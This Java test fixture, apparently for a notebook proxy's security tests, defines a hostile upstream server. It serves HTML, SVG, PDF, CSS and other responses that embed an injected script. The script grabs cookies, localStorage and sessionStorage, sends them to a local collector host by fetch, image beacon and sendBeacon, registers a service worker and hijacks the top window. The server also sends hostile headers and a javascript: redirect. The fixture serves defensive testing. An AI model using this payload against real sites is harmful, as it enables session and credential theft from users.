package io.github.opencodeproxy.sample.street;

import io.github.opencodeproxy.testkit.Conversation;
import io.github.opencodeproxy.testkit.RawUpstream;
import java.io.IOException;
import java.util.List;
import java.util.Map;

/** A server that wants to be more than a server, and its accomplice elsewhere that collects what it gets hold of. */
final class HostileServer implements AutoCloseable {

    /** What it answers with, by path: the type, and the body, in which the payload stands for its script. */
    private static final Map<String, List<String>> BODIES = Map.of(
            "/page.html",
                    List.of(
                            "text/html",
                            "<!doctype html><title>mine</title><script>PAYLOAD</script><form id=f action=ELSEWHERE/form></form>"),
            "/page.xhtml",
                    List.of(
                            "application/xhtml+xml",
                            "<html xmlns='http://www.w3.org/1999/xhtml'><head><title>mine</title><script>PAYLOAD</script></head></html>"),
            "/image.svg",
                    List.of(
                            "image/svg+xml",
                            "<svg xmlns='http://www.w3.org/2000/svg' onload='top.pwned=1'><title>mine</title><script>PAYLOAD</script></svg>"),
            "/text.html", List.of("text/plain", "<!doctype html><title>mine</title><script>PAYLOAD</script>"),
            "/untyped", List.of("", "<!doctype html><title>mine</title><script>PAYLOAD</script>"),
            "/data.json", List.of("application/json", "PAYLOAD"),
            "/script.js", List.of("text/javascript", "PAYLOAD"),
            "/style.css", List.of("text/css", "body{background:url(ELSEWHERE/css)} @import 'ELSEWHERE/import';"),
            "/file.pdf",
                    List.of(
                            "application/pdf",
                            "%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/URI/URI(ELSEWHERE/pdf)>>>>endobj\ntrailer<</Root 1 0 R>>"),
            "/events", List.of("text/event-stream", "data: PAYLOAD\n\n"));

    private static final String COMMON =
            "Access-Control-Allow-Origin: *\r\nAccess-Control-Allow-Credentials: true\r\nService-Worker-Allowed: /\r\n"
                    + "Set-Cookie: planted=1; Path=/\r\nSet-Cookie: session=overwritten; Path=/\r\nClear-Site-Data: \"*\"\r\n"
                    + "Content-Security-Policy: default-src * 'unsafe-inline'; report-uri ELSEWHERE/report\r\nReport-To: {\"endpoints\":[{\"url\":\"ELSEWHERE/report\"}]}\r\n"
                    + "Link: <ELSEWHERE/preload.js>; rel=preload; as=script\r\nRefresh: 0; url=ELSEWHERE/refresh\r\nX-Frame-Options: ALLOWALL\r\n"
                    + "SourceMap: ELSEWHERE/map\r\nNEL: {\"report_to\":\"default\",\"max_age\":60}\r\nAlt-Svc: h2=\":1\"\r\nSpeculation-Rules: \"ELSEWHERE/rules\"\r\n";

    private final RawUpstream elsewhere;
    private final RawUpstream server;

    private HostileServer(RawUpstream elsewhere) throws IOException {
        this.elsewhere = elsewhere;
        server = RawUpstream.start(this::serve);
    }

    static HostileServer start() throws IOException {
        return new HostileServer(
                RawUpstream.answering(
                        "HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Type: text/plain\r\nContent-Length: 0\r\n\r\n"));
    }

    private void serve(Conversation conversation) throws IOException {
        while (conversation.readRequest()) {
            String path = conversation.target().replaceFirst("\\?.*", "");
            if (conversation.header("upgrade").equals("websocket")) {
                conversation.acceptWebSocket("").text("reached");
                return;
            }
            switch (path) {
                case "/auth" ->
                    answer(
                            conversation,
                            "401 Unauthorized\r\nWWW-Authenticate: Basic realm=\"mine\"\r\nProxy-Authenticate: Basic",
                            "text/plain",
                            "no");
                case "/redirect" -> answer(conversation, "302 Found\r\nLocation: ELSEWHERE/redirect", "text/html", "");
                case "/redirect-page" -> answer(conversation, "302 Found\r\nLocation: /page.html", "text/html", "");
                case "/redirect-script" ->
                    answer(conversation, "302 Found\r\nLocation: javascript:alert(1)", "text/html", "");
                default -> {
                    List<String> body = BODIES.getOrDefault(path, List.of("text/html", "<script>PAYLOAD</script>"));
                    answer(conversation, "200 OK", body.get(0), body.get(1));
                }
            }
        }
    }

    private void answer(Conversation conversation, String status, String type, String body) throws IOException {
        String text = body.replace("PAYLOAD", payload()).replace("ELSEWHERE", elsewhere.url());
        String contentType = type.isEmpty() ? "" : "Content-Type: " + type + "\r\n";
        conversation.write(("HTTP/1.1 " + status + "\r\n" + COMMON + contentType).replace("ELSEWHERE", elsewhere.url())
                + "Content-Length: " + text.length() + "\r\n\r\n" + text);
    }

    /** Takes what can be had, calls the notebook's API, tells it elsewhere, and takes the top window there. */
    String payload() {
        return """
                (() => {
                  const loot = [];
                  const grab = (name, take) => { try { loot.push(name + "=" + take()) } catch {} };
                  grab("cookie", () => document.cookie);
                  grab("local", () => JSON.stringify(localStorage));
                  grab("session", () => JSON.stringify(sessionStorage));
                  grab("parent", () => parent.document.title);
                  grab("origin", () => self.origin);
                  const tell = "ELSEWHERE/loot?" + encodeURIComponent(loot.join("&"));
                  try { fetch("/notebook/team/box/api/servers?stolen", { headers: { "X-Opencode-Proxy": "1" } }) } catch {}
                  try { fetch(tell, { mode: "no-cors" }) } catch {}
                  try { new Image().src = tell + "&img" } catch {}
                  try { navigator.sendBeacon(tell + "&beacon") } catch {}
                  try { navigator.serviceWorker.register("/notebook/team/box/api/servers/evil/proxy/script.js") } catch {}
                  try { top.pwned = 1 } catch {}
                  setTimeout(() => {
                    try { top.location = tell.replace("/loot", "/top") } catch {}
                    try { document.getElementById("f").submit() } catch {}
                  }, 100);
                })()
                """.replace("ELSEWHERE", elsewhere.url()).replace("\n", " ");
    }

    static List<String> paths() {
        return List.of(
                "/page.html",
                "/page.xhtml",
                "/image.svg",
                "/text.html",
                "/untyped",
                "/data.json",
                "/script.js",
                "/style.css",
                "/file.pdf",
                "/events",
                "/auth",
                "/redirect",
                "/redirect-page",
                "/redirect-script");
    }

    String url() {
        return server.url();
    }

    /** {@return the requests that reached it, but for the proxy's own health checks} */
    List<String> requests() {
        return server.heads().stream()
                .filter(head -> !head.startsWith("GET /global/health ") && !head.startsWith("GET /api/health "))
                .toList();
    }

    /** {@return what got out} */
    List<String> loot() {
        return elsewhere.heads();
    }

    @Override
    public void close() throws IOException {
        server.close();
        elsewhere.close();
    }
}
